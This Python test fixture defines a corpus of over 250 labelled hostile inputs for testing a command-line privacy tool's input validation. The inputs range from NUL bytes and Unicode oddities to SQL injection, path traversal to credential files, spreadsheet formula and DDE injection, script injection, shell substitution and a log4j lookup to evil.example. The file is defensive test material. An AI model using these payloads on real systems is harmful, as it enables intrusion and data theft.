"""Hostile inputs: what a tester, a copy-paste or an attacker hands a command line (>= 250 strings).

Each entry says what it is (`label`) and which hazards it carries (`flags`), classified here with `unicodedata`
categories and explicit character lists, not with privacyops' own checks, so the tests compare the tool against an
independent verdict. Whether a command must refuse an entry depends on the kind of value the option takes (REFUSE).
"""

from __future__ import annotations

import os
import unicodedata
from dataclasses import dataclass, field

# Hazard -> the option kinds that must refuse it. Identifiers (e-mails, ids, names, case ids, picks) and paths
# take no control or invisible character and at most 1,024 characters; one-line text takes a tab; free text takes
# tabs and line breaks; nothing takes NUL, undecodable bytes or more than 64 K characters.
ALL_KINDS = {"identifier", "path", "line", "text"}
REFUSE = {
    "nul": ALL_KINDS,
    "undecodable": ALL_KINDS,
    "control": ALL_KINDS,
    "huge": ALL_KINDS,
    "newline": {"identifier", "path", "line"},
    "tab": {"identifier", "path"},
    "invisible": {"identifier", "path"},
    "long": {"identifier", "path"},
}
INVISIBLE = set("\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff")


@dataclass(frozen=True)
class Entry:
    label: str
    value: str
    flags: frozenset[str] = field(default_factory=frozenset)

    def refused_as(self, kind: str) -> bool:
        """Whether an option of this kind must refuse the entry (a date option refuses every entry: none is a
        date written YYYY-MM-DD)."""
        return kind == "date" or any(kind in REFUSE[f] for f in self.flags)

    def __repr__(self) -> str:  # pytest ids and failure messages: never 1 MB of 'x'
        return f"Entry({self.label!r})"


def hazards(value: str) -> frozenset[str]:
    """The hazards in `value`, by Unicode category (Cc control, Cs surrogate) and the lists above."""
    found = set()
    for ch in value:
        cat = unicodedata.category(ch)
        if ch == "\x00":
            found.add("nul")
        elif cat == "Cs":
            found.add("undecodable")
        elif ch in "\n\r":
            found.add("newline")
        elif ch == "\t":
            found.add("tab")
        elif cat == "Cc":
            found.add("control")
        elif ch in INVISIBLE:
            found.add("invisible")
    if len(value) > 65_536:
        found.add("huge")
    elif len(value) > 1_024:
        found.add("long")
    return frozenset(found)


def _undecodable(raw: bytes) -> str:
    """What Python (and click) make of argv bytes that are not UTF-8: lone surrogates (surrogateescape)."""
    return os.fsdecode(raw)


MB = 1_000_000
_RAW: list[tuple[str, str]] = [
    # NUL bytes
    ("nul alone", "\x00"), ("nul inside", "a\x00b"), ("nul after email", "janis@mini.example\x00"),
    ("nul before id", "\x001"), ("nul after id", "1\x00"), ("nul run", "\x00" * 16), ("nul in path", "out\x00dir"),
    ("nul sql", "x'\x00; DROP TABLE cases;--"), ("nul then newline", "\x00\n"), ("nul in date", "2025-01-01\x00"),
    # bytes that are not UTF-8 (as argv hands them over) and lone surrogates
    ("byte ff", _undecodable(b"\xff")), ("bad 2-byte", _undecodable(b"\xc3\x28")),
    ("truncated 3-byte", _undecodable(b"\xe2\x82")), ("continuation first", _undecodable(b"\x80abc")),
    ("latin-1 name", _undecodable("Jänis".encode("latin-1"))), ("latin-1 email", _undecodable(b"j\xe4nis@mini.example")),
    ("overlong slash", _undecodable(b"\xc0\xaf")), ("cp1252 quote", _undecodable(b"\x93quoted\x94")),
    ("lone high surrogate", "\ud800"), ("lone low surrogate", "\udfff"), ("surrogate in id", "1\udcff"),
    ("utf-16 bytes", _undecodable("id".encode("utf-16"))),
    # other control characters
    *[(f"control U+{c:04X}", f"a{chr(c)}b") for c in range(1, 32) if chr(c) not in "\t\n\r"],
    ("DEL", "a\x7fb"), ("NEL (C1)", "a\x85b"), ("CSI (C1)", "\x9b31m"), ("DCS (C1)", "\x90x"), ("APC (C1)", "\x9fx"),
    ("ANSI colour", "\x1b[31mred\x1b[0m"), ("ANSI clear screen", "\x1b[2J\x1b[H"), ("bell", "\x07\x07"),
    ("backspaces", "admin\x08\x08\x08\x08\x08"), ("form feed", "\x0c"),
    # line breaks and tabs
    ("newline inside", "a\nb"), ("newline after email", "janis@mini.example\n"), ("CRLF", "\r\n"),
    ("tab inside", "a\tb"), ("CR first", "\rfoo"), ("header injection", "x\r\nSet-Cookie: a=b"),
    ("log forging", "ok\n2025-01-01 INFO admin logged in"),
    # bidirectional overrides, zero-width and other invisible characters
    ("RTL override", "\u202e"), ("RTL override in name", "admin\u202egnp.exe"), ("LTR isolate", "\u2066x\u2069"),
    ("RLM", "\u200fjanis"), ("zero-width space", "\u200b"), ("zero-width in email", "jan\u200bis@mini.example"),
    ("BOM first", "\ufeffjanis@mini.example"), ("word joiner", "1\u20600"), ("LRE PDF", "\u202ax\u202c"),
    ("ZWJ alone", "\u200d"), ("ZWNJ in Persian name", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
    # combining marks
    ("combining acute", "e\u0301"), ("combining alone", "\u0301"),
    ("zalgo", "Z\u0364\u0351a\u0308\u0316l\u036e\u0312g\u0328o\u032f"), ("stacked marks", "a" + "\u0300" * 50),
    ("decomposed name", "Ja\u0304nis Be\u0304rzin\u0327s\u030c"),
    # digits from other scripts, and number forms int() or float() would take
    ("fullwidth 1", "１"), ("fullwidth 123", "１２３"), ("arabic-indic 1", "١"), ("arabic-indic 12", "١٢"),
    ("persian 1", "۱"), ("devanagari 1", "१"), ("thai 1", "๑"), ("math bold 1", "𝟏"), ("circled 1", "①"),
    ("superscript 1", "¹"), ("roman numeral one", "Ⅰ"), ("nko 1", "߁"), ("bengali 1", "১"),
    ("underscore 1_0", "1_0"), ("underscore 1_000", "1_000"), ("spaced 1", " 1 "), ("plus 1", "+1"), ("minus 1", "-1"),
    ("exponent 1e3", "1e3"), ("decimal 1.0", "1.0"), ("hex 0x1", "0x1"), ("binary 0b1", "0b1"), ("leading zeros", "00001"),
    ("space inside 1 0", "1 0"), ("comma 1,0", "1,0"), ("19 nines", "9" * 19), ("20 nines", "9" * 20),
    ("50 nines", "9" * 50), ("5000 nines", "9" * 5000), ("below int64", "-9223372036854775809"),
    ("above int64", "9223372036854775808"), ("NaN", "NaN"), ("inf", "inf"), ("minus zero", "-0"),
    ("fullwidth plus", "＋1"),
    # very long input
    ("1 MB of x", "x" * MB), ("1 MB of e-acute", "é" * MB), ("1 MB e-mail", "a@" + "b" * MB + ".example"),
    ("1 MB of digits", "1" * MB), ("1 MB formula", "=" + "A" * MB), ("70 K of x", "x" * 70_000),
    ("2 K of x", "x" * 2_000), ("1025 of x", "y" * 1_025), ("1 MB of emoji", "😀" * (MB // 4)),
    # SQL injection
    ("sql or", "' OR '1'='1"), ("sql drop", "'; DROP TABLE cases;--"), ("sql delete", "1; DELETE FROM people.person"),
    ("sql double quote", '" OR 1=1 --'), ("sql comment after email", "janis@mini.example' --"),
    ("like percent", "%"), ("like underscore", "_"), ("like percents", "%%"), ("backslash", "\\"),
    ("sql union", "1 UNION SELECT * FROM cases"), ("sql paren", "') OR ('a'='a"), ("pg placeholder", "$1"),
    ("qmark", "?"), ("named param", ":name"), ("sql sleep", "1' AND pg_sleep(5)--"),
    # path traversal and odd paths
    ("traversal", "../../etc/passwd"), ("windows traversal", "..\\..\\windows\\win.ini"), ("etc passwd", "/etc/passwd"),
    ("home ssh", "~/.ssh/id_rsa"), ("file url", "file:///etc/passwd"), ("dot", "."), ("dotdot", ".."),
    ("root", "/"), ("CON", "CON"), ("NUL device name", "NUL"), ("aux.txt", "aux.txt"), ("a/b/../../c", "a/b/../../c"),
    ("256-byte name", "n" * 256), ("proc self", "/proc/self/environ"),
    # spreadsheet formulas
    ("formula cmd", "=cmd|' /C calc'!A0"), ("formula hyperlink", '=HYPERLINK("http://evil.example","click")'),
    ("plus hyperlink", '+HYPERLINK("http://evil.example","x")'), ("minus formula", "-2+3+cmd|' /C calc'!A0"),
    ("at formula", "@SUM(1+1)*cmd|' /C calc'!A0"), ("tab formula", "\t=1+1"), ("CR formula", "\r=1+1"),
    ("plain formula", "=1+1"), ("DDE", '=DDE("cmd";"/C calc";"A0")'), ("importxml", '=IMPORTXML("http://e.x","//a")'),
    # HTML and script
    ("script", "<script>alert(1)</script>"), ("img onerror", "<img src=x onerror=alert(1)>"),
    ("svg onload", '"><svg onload=alert(1)>'), ("entity", "&lt;b&gt;&amp;"), ("end textarea", "</textarea><b>x"),
    ("javascript url", "javascript:alert(1)"), ("html comment", "<!--"), ("cdata end", "]]>"),
    ("style", "<style>body{display:none}</style>"), ("quote break", "' onmouseover='alert(1)"),
    # format strings and templates
    ("brace 0", "{0}"), ("braces", "{}"), ("percent s", "%s"), ("percent n", "%n"), ("percent name", "%(x)s"),
    ("format attr", "{0.__class__}"), ("shell var", "${HOME}"), ("shell subst", "$(whoami)"), ("backticks", "`id`"),
    ("jinja", "{{7*7}}"), ("jinja block", "{% raw %}"), ("log4j", "${jndi:ldap://evil.example/a}"),
    # emoji
    ("emoji", "😀"), ("family zwj", "👨\u200d👩\u200d👧"), ("flag", "🏳️\u200d🌈"), ("emoji in email", "janis😀@mini.example"),
    ("100 emoji", "😀" * 100), ("skin tone", "👍🏽"),
    # empty and whitespace only
    ("empty", ""), ("space", " "), ("spaces", "   "), ("nbsp", "\u00a0"), ("ideographic space", "\u3000"),
    ("em space", "\u2003"), ("tab only", "\t"),
    # YAML / JSON fragments and loose literals
    ("json object", '{"a": 1}'), ("json array", "[1, 2]"), ("null", "null"), ("yaml tilde", "~"),
    ("yaml python tag", "!!python/object/apply:os.system ['id']"), ("yaml list", "- a\n- b"), ("yaml anchor", "&anchor"),
    ("yaml alias", "*alias"), ("yaml mapping", "key: value"), ("yaml doc", "---"), ("true", "true"), ("yes", "yes"),
    ("no", "no"), ("NULL", "NULL"), ("None", "None"), ("undefined", "undefined"), ("json escape", '"\\u0000"'),
    # e-mail shapes
    ("upper email", "JANIS@MINI.EXAMPLE"), ("spaced email", " janis@mini.example "), ("trailing dot", "janis@mini.example."),
    ("double at", "janis@@mini.example"), ("no local", "@mini.example"), ("no domain", "janis@"),
    ("plus tag", "janis+tag@mini.example"), ("quoted local", '"quoted"@mini.example'), ("unicode local", "jānis@mini.example"),
    ("two addresses", "janis@mini.example,home@mini.example"), ("semicolon list", "janis@mini.example;home@mini.example"),
    ("max-length email", "a" * 64 + "@" + "b" * 185 + ".com"), ("display name", "Janis <janis@mini.example>"),
    ("idn domain", "janis@mīnī.example"),
    # phone shapes
    ("phone", "+371 2000 1111"), ("fullwidth phone", "+371２０００１１１１"), ("arabic-indic phone", "٠٠٣٧١٢٠٠٠١١١١"),
    ("plus plus", "++371"), ("plus alone", "+"), ("parens", "((("), ("extension", "2000-1111 ext. 5"),
    ("tel url", "tel:+37120001111"), ("digits 7", "2000111"),
    # names
    ("name", "Jānis Bērziņš"), ("upper name", "JANIS BERZINS"), ("apostrophe", "O'Brien"), ("comma name", "Smith, John"),
    ("chinese", "李小龍"), ("arabic", "محمد"), ("spanish", "Ñandú"), ("one letter", "x"), ("greek", "Γιάννης"),
    # picks (DATASET:KEY)
    ("pick", "people.person:1"), ("pick fullwidth", "people.person:１"), ("pick underscore", "people.person:1_0"),
    ("pick no key", "people.person:"), ("pick no dataset", ":1"), ("pick two colons", "people.person:1:2"),
    ("pick unknown", "nope:1"), ("pick arabic", "people.person:١"),
    # other Unicode oddities
    ("noncharacter ffff", "\uffff"), ("noncharacter fffe", "\ufffe"), ("last code point", "\U0010ffff"),
    ("private use", "\ue000"), ("ligature fi", "ﬁ"), ("dotted I", "İ"), ("sharp s", "ß"), ("DZ digraph", "Ǆ"),
    ("replacement char", "\ufffd"), ("fullwidth email", "ｊａｎｉｓ＠ｍｉｎｉ．ｅｘａｍｐｌｅ"),
]

CORPUS: list[Entry] = [Entry(label, value, hazards(value)) for label, value in _RAW]


def refused(kind: str) -> list[Entry]:
    return [e for e in CORPUS if e.refused_as(kind)]


def accepted(kind: str) -> list[Entry]:
    return [e for e in CORPUS if not e.refused_as(kind)]
